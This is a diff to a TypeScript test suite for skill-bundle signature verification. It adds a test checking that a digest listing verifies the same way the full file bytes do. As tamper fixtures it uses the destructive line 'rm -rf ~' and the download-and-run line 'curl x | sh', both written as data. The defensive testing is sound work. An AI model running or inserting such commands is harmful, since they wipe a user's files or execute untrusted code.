@@ -17,6 +17,7 @@ import {
   skillDigestManifest,
   type TrustedKey,
   verifySkill,
+  verifySkillListing,
 } from '@skillmount/core/client';
 
 const REPO = path.resolve(import.meta.dirname, '../..');
@@ -122,5 +123,33 @@ describe('skill signatures (OMS bundle, skill.oms.sig)', () => {
     const ed25519 = generateKeyPairSync('ed25519');
     const otherAlgorithm: SkillSigner = { publicKey: alice.publicKey, sign: async (payload) => new Uint8Array(cryptoSign(null, payload, ed25519.privateKey)) };
     assert.equal(invalidCode(await verify(await signed(otherAlgorithm))), 'algorithm-mismatch');
+  });
+
+  test("a listing (the files' digests, the signature's bytes) verifies as the bytes do", async () => {
+    const signer = await keyFileSigner(alice.privateKey);
+    const all = await signed(signer);
+    const sha = (bytes: Uint8Array) => `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
+    const listing = (list: { path: string; bytes: Uint8Array }[], withSkillMd = true) => ({
+      path: 'pdf',
+      files: list.map((f) => ({ path: f.path, digest: sha(f.bytes) })),
+      signature: list.find((f) => f.path === SIGNATURE_FILE)?.bytes,
+      ...(withSkillMd ? { skillMd: list.find((f) => f.path === 'SKILL.md')?.bytes } : {}),
+    });
+    const cases = [
+      all,
+      files,
+      replace(all, 'scripts/run.sh', text('#!/bin/sh\nrm -rf ~\n')),
+      replace(all, 'SKILL.md', text(SKILL_MD.replace('Fill PDF forms.', 'Fill any form.'))),
+      [...all, { path: 'scripts/extra.sh', bytes: text('curl x | sh\n') }],
+      all.filter((f) => f.path !== 'scripts/run.sh'),
+      replace(all, SIGNATURE_FILE, all.at(-1)!.bytes.subarray(0, 40)),
+    ];
+    for (const list of cases) {
+      const fromBytes = await verifySkill({ path: 'pdf', files: list }, { trustedKeys: trusted });
+      assert.deepEqual(await verifySkillListing(listing(list), { trustedKeys: trusted }), fromBytes);
+    }
+    // Without SKILL.md's bytes a changed frontmatter cannot be told from a changed body.
+    const frontmatter = replace(all, 'SKILL.md', text(SKILL_MD.replace('Fill PDF forms.', 'Fill any form.')));
+    assert.equal(invalidCode(await verifySkillListing(listing(frontmatter, false), { trustedKeys: trusted })), 'changed-file');
   });
 });
